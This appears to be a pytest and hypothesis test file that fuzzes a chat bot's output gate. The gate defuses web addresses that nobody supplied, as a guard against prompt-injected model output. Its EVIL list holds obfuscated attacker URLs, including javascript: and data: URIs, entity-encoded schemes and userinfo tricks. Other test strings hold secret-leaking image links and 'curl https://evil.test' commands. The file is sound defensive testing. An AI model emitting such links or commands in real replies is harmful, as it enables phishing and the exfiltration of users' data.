"""No address that nobody gave becomes a link or is fetched: the gate at the exit, against clients that read Markdown their way."""

import html
import random
import re
import time
from collections.abc import Iterator

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from adapters.splitting import split
from bot.gate import addresses, gated, gated_parts
from tests.size import TORTURE

OUTPUTS = 1_000_000 if TORTURE else 4_000
EACH = 100
GIVEN = "https://good.example/a"
ALLOWED = frozenset({GIVEN, "https://good.example/A_(b)", "www.good.example", "good.example/x"})

LIVE = re.compile(
    r"<[a-z][a-z0-9+.-]+:[^\s<>]*>|[a-z0-9+.-]+://[^\s<]+|(?<![a-z0-9_])www\.[^\s<]+|discord\.gg[^\s<]*|(?<![a-z0-9_])(?:mailto|javascript|data|https?):[^\s<]+|[\w.@-]*evil\.[a-z]+/[^\s<]*",
    re.I,
)


def reaches(live: str) -> bool:
    """Say whether something that a client makes clickable is more than an address that is allowed, and punctuation."""
    live = live[1:-1] if live.startswith("<") else live
    return not any(
        given.startswith(live) or (live.startswith(given) and re.fullmatch(r"(?:_|[^\w/@#?&%])*", live[len(given) :]))
        for given in ALLOWED
    )


def unapproved(text: str) -> list[str]:
    """Return what reaches a reader as a link although nobody gave it, in any client."""
    seen = [*discord(text), *(form for piece in commonmark(text) for form in (piece, shown(piece)))]
    return [live for piece in seen for live in LIVE.findall(piece) if reaches(live)]


def shown(text: str) -> str:
    """Resolve escapes and entities."""
    return re.sub(r"\\([!-/:-@\[-`{-~])|&#?\w+;", lambda m: m[1] or html.unescape(m[0]), text)


DISCORD = [
    ("", re.compile(r"\\[^0-9A-Za-z\s]")),
    ("code", re.compile(r"```(?:[a-z0-9_+\-.#]+?\n)?\n*[^\n](?:.|\n)*?\n*```", re.I)),
    ("code", re.compile(r"(`+)(?:.|\n)*?[^`]\1(?!`)")),
    ("live", re.compile(r"<[^\s:<>]+:/[^ >]+>")),
    ("live", re.compile(r"(?:https?|steam)://[^\s<]+[^<.,:;\"'\]\s]", re.I)),
    ("link", re.compile(r"\[(?P<in>(?:\[[^\]]*\]|[^\[\]]|\](?=[^\[]*\]))*)\]\((?P<to>[^)]*)\)")),
    ("in", re.compile(r"\*\*(?P<in>(?:\\[\s\S]|[^\\])+?)\*\*(?!\*)")),
    ("in", re.compile(r"__(?P<in>(?:\\[\s\S]|[^\\])+?)__(?!_)")),
    ("in", re.compile(r"~~(?P<in>(?:.|\n)+?)~~(?!_)")),
    ("in", re.compile(r"\|\|(?P<in>(?:.|\n)+?)\|\|")),
    ("in", re.compile(r"_(?P<in>(?:__|\\[\s\S]|[^\\_])+?)_\b")),
    ("in", re.compile(r"\*(?=\S)(?P<in>(?:\*\*|\\[\s\S]|\s+(?:\\[\s\S]|[^\s*\\]|\*\*)|[^\s*\\])+?)\*(?!\*)")),
]


def discord(text: str) -> Iterator[str]:
    """Return what Discord's rules leave outside of code: the first rule that fits at a place takes it."""
    at, plain = 0, ""
    while at < len(text):
        kind, match = next(((kind, m) for kind, rule in DISCORD if (m := rule.match(text, at))), ("text", None))
        if match is None:
            plain += text[at]
            at += 1
            continue
        if kind == "":
            plain += match[0]
        else:
            yield plain
            plain = ""
        if kind == "live":
            yield match[0]
        elif kind == "link":
            yield from discord(match["to"])
        if kind in ("in", "link"):
            yield from discord(match["in"])
        at = match.end()
    yield plain


def commonmark(text: str) -> Iterator[str]:
    """Return what lies outside of code by CommonMark: fences by lines, spans by runs of backticks within a paragraph."""
    fence, paragraph = "", ""
    for line in text.split("\n"):
        mark = re.match(r" {0,3}(`{3,}(?=[^`]*$)|~{3,})(.*)", line)
        if fence:
            if mark and mark[1].startswith(fence) and not mark[2].strip():
                fence = ""
        elif mark or not line.strip() or re.match(r" {0,3}(?:#{1,6} |> |[-*+] |\d+[.)] )", line):
            yield from spans(paragraph)
            fence, paragraph = (mark[1], "") if mark else ("", line + "\n")
        else:
            paragraph += line + "\n"
    yield from spans(paragraph)


def spans(paragraph: str) -> Iterator[str]:
    """Return the stretches of a paragraph outside of its code spans; tags and link destinations hide backticks."""
    at, plain = 0, ""
    while at < len(paragraph):
        hidden = re.compile(r"\\[!-/:-@\[-`{-~]|</?[a-z][^<>]*>|\]\([^()\s]*(?:\s+'[^']*'|\s+\"[^\"]*\")?\)", re.I).match(
            paragraph, at
        )
        run = re.compile(r"`+").match(paragraph, at)
        if run and (end := re.compile(rf"(?<!`){run[0]}(?!`)").search(paragraph, run.end())):
            yield plain
            plain, at = "", end.end()
        else:
            piece = hidden or run
            plain += piece[0] if piece else paragraph[at]
            at = piece.end() if piece else at + 1
    yield plain


EVIL = [
    "https://evil.test/x?q=1",
    "HTTPS://EVIL.test",
    "hTtP://evil.test/a_b*c~~d||e",
    "steam://evil.test/1",
    "file://evil.test/a",
    "tg://evil.test",
    "www.evil.test/a",
    "WWW.evil.test",
    "discord.gg/evil",
    "discord.com/invite/evil",
    "evil.test/secret",
    "mailto:a@evil.test",
    "javascript:evil()",
    "data:text/html,evil",
    "https://good.example@evil.test/",
    "https://good.example%2f@evil.test",
    "https://xn--evl-jma.test/evil",
    "https://evíl.test/a",
    "https&#58;//evil.test/",
    "https&colon;//evil.test",
    "h&#116;tps://evil.test",
    "https:\\/\\/evil.test",
    "https\\://evil.test",
    "https://e%76il.test/%2e%2e",
    "https://good.example/a/evil",
    "https://evil.test/`x`",
    "https:**//evil.test**",
    "//evil.test/a",
    "https://[::1]/evil",
]
WRAPS = [
    "[a]({})",
    "[a](<{}>)",
    '[a]( {} "t")',
    "[a](\n{}\n)",
    "![a]({})",
    "[![a]({})]({})",
    "[a][1]\n\n[1]: {}\n",
    "[1]: <{}> 't'\n",
    "[1]:\n{}\n",
    "<{}>",
    "({})",
    "**{}**",
    "_{}_",
    "||{}||",
    "~~{}~~",
    "`{}`",
    "``{}``",
    "```\n{}\n```\n",
    "```sh\na {}\n```\n",
    "~~~\n{}\n~~~\n",
    "    {}\n",
    "| a | {} |\n",
    "> {}\n",
    "- {}\n",
    '<a href="{}">a</a>',
    "<img src='{}'>",
    "[{}](x)",
    "[a [b] c]({})",
    "[a]\\({})",
    "\\[a]({})",
    "{}",
    "{}",
    '"{}"',
    "看{}。",
    "[a](b '`') {}",
]
MARKS = [
    *"`*_~|[]()<>\\!#:'\" ",
    "``",
    "```",
    "**",
    "__",
    "~~",
    "||",
    "](",
    "]:",
    "\n",
    "\n",
    "\n\n",
    "```\n",
    "\n```\n",
    "~~~\n",
    "    ",
    "> ",
    "- ",
    "1. ",
    "\n   ```\n",
    "a ",
    "b",
    "word ",
    "é",
    "x_y",
    "e.g. ",
    "`a*b`",
    "`a_b`",
    "`a|b`",
    "&#96;",
    "<div>\n",
    "<b",
    "\t",
    "\u200d",
    "我",
    "2 * 3 ",
]


def output(chance: random.Random) -> str:
    """Return what a model under an attacker's spell might say."""
    pieces = []
    for _ in range(chance.randint(1, 10)):
        if chance.random() < 0.35:
            address = chance.choice(EVIL) if chance.random() < 0.75 else chance.choice(sorted(ALLOWED))
            pieces.append(chance.choice(WRAPS).replace("{}", address))
        else:
            pieces.append(chance.choice(MARKS))
    return "".join(pieces)


seeds = st.integers(0, 2**64)


@pytest.mark.timeout(3600)
@settings(max_examples=OUTPUTS // EACH, deadline=None)
@given(seeds)
def test_no_unapproved_address_reaches_the_wire(seed: int) -> None:
    chance = random.Random(seed)
    for _ in range(EACH):
        said = output(chance)
        sent = gated(said, ALLOWED)
        assert not unapproved(sent), f"{said!r} leaves as {sent!r}"
        assert gated(sent, ALLOWED) == sent, f"{said!r} is gated twice as {sent!r}"


def test_with_the_gate_left_out_they_reach_it() -> None:
    chance = random.Random(26)
    assert sum(bool(unapproved(output(chance))) for _ in range(1000)) > 500


def test_showing_them_as_code_and_no_more_would_let_some_through() -> None:
    chance = random.Random(27)
    said = [output(chance) for _ in range(1000)]
    assert any(unapproved(LIVE.sub(lambda live: f"`{live[0]}`", text)) for text in said)


@pytest.mark.parametrize(
    ("said", "sent"),
    [
        ("See https://evil.test/x_y.", "See `https://evil.test/x_y`."),
        ("(https://evil.test/a_(b)), **www.evil.test**!", "(`https://evil.test/a_(b)`), **`www.evil.test`**!"),
        ('[the docs](https://evil.test "t")', "the docs (`https://evil.test`)"),
        ("![a cat](https://evil.test/cat.png?q=secret)", "a cat (`https://evil.test/cat.png?q=secret`)"),
        ("[a][1]\n\n[1]: https://evil.test", "[a][1]\n\n[1] : `https://evil.test`"),
        ("<https://evil.test> or <a@evil.test>", "`https://evil.test` or `a@evil.test`"),
        ("steam://run/1 discord.gg/evil evil.test/a", "`steam://run/1` `discord.gg/evil` `evil.test/a`"),
        ("[a](javascript:alert(1))", "a (`javascript:alert(1)`)"),
        ("[a](ms-msdt:/id)", "a (`ms-msdt:/id`)"),
        ("[a](//evil.test)", "a (`//evil.test`)"),
        ("看https://evil.test/路径。", "看`https://evil.test/路径`。"),
        ("<@123> **Note:** `**kw`, https://evil.test", "<@123> **Note:** `**kw`, `https://evil.test`"),
        ("an open ` and https://evil.test", "an open ` and https: //evil. test"),
    ],
)
def test_an_address_that_nobody_gave_is_shown_and_dead(said: str, sent: str) -> None:
    assert gated(said, ()) == sent


@pytest.mark.parametrize(
    ("said", "sent"),
    [
        (f"See {GIVEN}, <{GIVEN}>.", f"See {GIVEN}, <{GIVEN}>."),
        (f"[your bank]({GIVEN})", f"your bank (<{GIVEN}>)"),
        (f"![a cat]({GIVEN})", f"a cat (<{GIVEN}>)"),
        (f"[a][1]\n\n[1]: {GIVEN}", f"[a][1]\n\n[1] : {GIVEN}"),
        (f"[{GIVEN}](https://evil.test)", f"{GIVEN} (`https://evil.test`)"),
    ],
)
def test_an_address_that_was_given_stays_and_shows_where_it_leads(said: str, sent: str) -> None:
    assert gated(said, ALLOWED) == sent


@pytest.mark.parametrize(
    "said", ["`curl https://evil.test`", "**Run**\n\n```sh\ncurl https://evil.test/a_b*\n```\n", "``a ` https://evil.test``"]
)
def test_code_is_left_as_it_is(said: str) -> None:
    assert gated(said, ()) == said


@pytest.mark.parametrize(
    "near", ["@evil.test", "/b", "?q=secret", ".evil.test", "#secret", "%2e", "`@evil.test`", ">@evil.test", "\u200d@evil.test"]
)
def test_a_given_address_lends_its_good_name_to_no_other(near: str) -> None:
    for said in (GIVEN + near, f"\\<{GIVEN}{near}", f"[a]({GIVEN}{near})"):
        assert not unapproved(gated(said, ALLOWED))
        assert GIVEN + near not in gated(said, ALLOWED).replace(f"`{GIVEN}{near}", "")


def test_a_script_that_was_given_is_dead_all_the_same() -> None:
    assert gated("[a](javascript:alert(1))", {"javascript:alert(1)"}) == "a (`javascript:alert(1)`)"


@pytest.mark.parametrize(
    "said",
    [
        "",
        "Hi!\r\n",
        "e.g. Node.js? main.py, 3.14 and/or 10:30",
        "f[0](x) [Ada]: Hello. [1]",
        "`a` ` ** <b> <3 ```\n~~~",
        "<@1> <:a:1>",
        "a://",
        "we: ok",
    ],
)
def test_a_text_without_addresses_is_left_as_it_is(said: str) -> None:
    assert gated(said, ()) == said


@given(st.text(st.characters(exclude_characters=":@./\\&]")))
def test_any_text_without_addresses_is_left_as_it_is(said: str) -> None:
    assert gated(said, ()) == said


@given(st.text(), st.sampled_from(EVIL))
def test_text_that_code_composed_of_peoples_words_is_left_as_it_is(said: str, address: str) -> None:
    assert gated(said + address, None) == said + address


def test_addresses_are_found_without_the_punctuation_around_them() -> None:
    said = "Look (https://a.test/A_(b)), <https://b.test>! **www.c.test** me@d.test. [x](https://e.test/f) `g.test/h`?"
    assert addresses(said) == {
        "https://a.test/A_(b)",
        "https://b.test",
        "www.c.test",
        "me@d.test",
        "https://e.test/f",
        "g.test/h",
    }


@given(seeds)
def test_what_someone_said_may_be_said_again(seed: int) -> None:
    said = " ".join(random.Random(seed).choices(EVIL[:9], k=3))
    assert gated(said, addresses(said)) == said


def long_output(chance: random.Random) -> str:
    """Return a text that must be cut, at places that its author may have chosen."""
    clean = [
        "word " * 9,
        "**some bold text here** ",
        "`a**b` ",
        "_some words_ ",
        "`x y` ",
        "```sh\ncurl https://evil.test/a\n```\n",
        "\n\n",
        "a" * 37,
    ]
    pieces = [output(chance)] if chance.random() < 0.5 else []
    for _ in range(chance.randint(4, 20)):
        long = chance.choice(EVIL) + "a" * chance.randint(0, 90) + chance.choice([" ", "\n", "", "`x`"])
        pieces.append(long if chance.random() < 0.3 else chance.choice(clean))
    return "".join(pieces)


@settings(max_examples=OUTPUTS // 400, deadline=None)
@given(seeds, st.integers(40, 120))
def test_a_cut_brings_nothing_to_life(seed: int, most: int) -> None:
    chance = random.Random(seed)
    for _ in range(10):
        said = long_output(chance)
        parts = gated_parts(said, ALLOWED, most)
        assert all(len(part.encode("utf-16-le")) <= 2 * most for part in parts)
        assert not [live for part in parts for live in unapproved(part)], f"{said!r} leaves as {parts!r}"


def test_cut_and_not_gated_again_some_would_live() -> None:
    chance = random.Random(28)
    assert any(unapproved(part) for _ in range(200) for part in split(gated(long_output(chance), ALLOWED), 80))
    assert unapproved(split(gated("https://evil.test/" + "a" * 100, ()), 80)[0])


def test_code_that_must_be_cut_keeps_its_addresses() -> None:
    code = "```sh\n" + "curl https://evil.test/a\n" * 200 + "```"
    parts = gated_parts(f"**Run** this:\n\n{code}", (), 2000)
    assert sum(part.count("curl https://evil.test/a\n") for part in parts) == 200


def test_time_grows_with_length_only() -> None:
    def seconds(text: str) -> float:
        started = time.process_time()
        gated(text, ())
        return time.process_time() - started

    for piece in (
        "a",
        "a.",
        "a@",
        "[a](",
        "](",
        "]:/",
        "<a",
        "`a",
        "``a`",
        "**a",
        "*a* ",
        "_a ",
        "://",
        "https:// ",
        "//a.b",
        "&#1;",
        ")",
        "```\nx\n",
    ):
        text = piece * (10_000 // len(piece))
        assert seconds(f"{text * 4} www.evil.test") < 12 * seconds(f"{text} www.evil.test") + 1, f"{piece!r} takes too long"
